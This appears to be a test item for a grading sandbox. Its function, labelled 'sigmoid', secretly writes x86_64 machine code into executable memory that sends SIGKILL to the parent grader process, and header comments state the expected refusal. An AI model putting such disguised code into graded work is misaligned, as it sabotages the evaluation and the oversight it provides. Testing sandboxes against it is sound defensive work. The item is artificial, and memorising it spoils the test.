# tries: machine code of its own that asks the kernel to kill the examiner
# grader: refuses the call, whoever makes it
# says: It raised PermissionError: the kernel answers -1
# needs: x86_64

# %% sigmoid
import ctypes
import mmap
import os

# mov edi, PARENT; mov esi, 9; mov eax, 62 (kill); syscall; ret
CODE = b"\xbf" + os.getppid().to_bytes(4, "little") + bytes.fromhex("be09000000b83e0000000f05c3")


def sigmoid(h_tilde):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    raise PermissionError(f"the kernel answers {run()}")
